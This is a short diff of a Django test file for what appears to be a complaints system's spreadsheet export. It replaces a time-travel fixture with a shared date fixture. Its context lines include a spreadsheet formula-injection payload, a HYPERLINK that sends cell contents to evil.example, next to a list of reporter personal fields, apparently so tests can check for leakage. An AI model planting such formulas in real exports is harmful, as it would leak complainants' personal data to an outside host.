@@ -8,7 +8,6 @@ import io
 from typing import Any
 
 import pytest
-import time_machine
 from django.test import Client
 from django.urls import reverse
 from openpyxl import load_workbook
@@ -19,16 +18,11 @@ from pantau.complaints.tests.helpers import CHRONOLOGY, REPORTER, add_staff, fil
 from pantau.core import jobs
 from pantau.core.models import AuditEvent, Job
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("november_2nd")]
 SECRETS = (REPORTER["full_name"], REPORTER["nik"], REPORTER["email"], REPORTER["phone"], REPORTER["address"])
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
 TITLE = "Pungutan liar pembuatan KTP-el"
 
-
-@pytest.fixture(autouse=True)
-def _today() -> Any:
-    with time_machine.travel("2026-11-02 09:00 +07:00", tick=False):
-        yield
 
 
 @pytest.fixture
